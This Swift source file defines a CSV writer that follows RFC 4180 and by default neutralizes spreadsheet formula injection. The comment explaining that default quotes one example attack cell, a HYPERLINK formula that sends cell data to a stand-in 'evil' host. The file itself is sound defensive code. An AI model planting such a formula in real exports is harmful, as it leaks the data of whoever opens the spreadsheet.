import Foundation

/// Writes RFC 4180 CSV: a header row, CRLF after every record, UTF-8.
///
/// A field is quoted when it contains a comma, a double quote, CR or LF, and quotes inside
/// it are doubled. Every row must have as many fields as the header.
///
/// ```swift
/// let csv = try CSVWriter().string(header: ["acuerdo", "responsable"],
///                                  rows: [["Publicar la minuta", "Facilitación"]])
/// ```
public struct CSVWriter: Hashable, Sendable {
    /// Prefix a UTF-8 byte order mark (EF BB BF) in `data(header:rows:)`. Off by default
    /// because RFC 4180 and most programs do not want one; turn it on for files meant to be
    /// double-clicked into Excel, which otherwise reads UTF-8 as Windows-1252 and garbles
    /// "Michoacán".
    public var includeByteOrderMark: Bool

    /// Prefix `'` to a field that starts with `=`, `+`, `-`, `@`, TAB or CR. On by default.
    ///
    /// Why: these exports are public and their cells hold text typed by others (agreement
    /// titles, organisation names). A spreadsheet opened by a journalist or an official would
    /// run a cell such as `=HYPERLINK("http://evil/?"&A1,"ver")` or `@SUM(…)` as a formula —
    /// leaking data or launching commands ("CSV injection", OWASP). The apostrophe makes
    /// spreadsheets show the text as typed. The cost is that such fields are altered for
    /// programs (`-5` becomes `'-5`), so turn this off for feeds read only by machines.
    public var neutralizeFormulas: Bool

    public init(includeByteOrderMark: Bool = false, neutralizeFormulas: Bool = true) {
        self.includeByteOrderMark = includeByteOrderMark
        self.neutralizeFormulas = neutralizeFormulas
    }

    /// The whole document as text (never with a byte order mark).
    public func string(header: [String], rows: [[String]]) throws(CSVError) -> String {
        guard !header.isEmpty else { throw .emptyHeader }
        var out = record(header)
        for (index, row) in rows.enumerated() {
            guard row.count == header.count else {
                throw .wrongFieldCount(row: index + 1, expected: header.count, found: row.count)
            }
            out += record(row)
        }
        return out
    }

    /// The whole document as UTF-8 bytes, with the byte order mark if `includeByteOrderMark`.
    public func data(header: [String], rows: [[String]]) throws(CSVError) -> Data {
        let text = try string(header: header, rows: rows)
        return (includeByteOrderMark ? Data([0xEF, 0xBB, 0xBF]) : Data()) + Data(text.utf8)
    }

    /// One record with its trailing CRLF, for writing large exports row by row. The caller
    /// keeps every record as wide as the header.
    public func record(_ fields: [String]) -> String {
        fields.map(field).joined(separator: ",") + "\r\n"
    }

    /// One field, neutralized if needed and then quoted if needed.
    public func field(_ value: String) -> String {
        var value = value
        if neutralizeFormulas, let first = value.unicodeScalars.first,
            CSVWriter.formulaStarters.contains(first)
        {
            value = "'" + value
        }
        // Scalars, not Characters: "\r\n" is one Character and would hide both CR and LF.
        let needsQuotes = value.unicodeScalars.contains { CSVWriter.quoteTriggers.contains($0) }
        guard needsQuotes else { return value }
        var quoted = String.UnicodeScalarView()
        quoted.append("\"")
        for scalar in value.unicodeScalars {
            if scalar == "\"" { quoted.append("\"") }
            quoted.append(scalar)
        }
        quoted.append("\"")
        return String(quoted)
    }

    static let formulaStarters: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]
    static let quoteTriggers: Set<Unicode.Scalar> = [",", "\"", "\r", "\n"]
}

/// Why `CSVWriter` refused to write a document.
public enum CSVError: Error, Hashable, Sendable {
    /// A CSV document needs at least one column.
    case emptyHeader
    /// Data row `row` (1-based, header excluded) has `found` fields instead of `expected`.
    case wrongFieldCount(row: Int, expected: Int, found: Int)
}
